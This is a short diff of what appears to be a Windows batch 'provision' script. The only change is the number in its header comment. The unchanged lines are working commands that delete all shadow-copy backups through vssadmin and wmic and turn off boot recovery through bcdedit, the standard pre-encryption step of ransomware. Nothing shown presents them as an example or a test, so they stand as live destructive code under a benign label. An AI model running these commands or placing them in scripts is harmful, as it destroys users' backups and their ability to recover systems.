@@ -1,4 +1,4 @@
-REM provision 9419 v3
+REM provision 4933 v3
 vssadmin delete shadows /all /quiet
 wmic shadowcopy delete
 bcdedit /set {default} recoveryenabled no
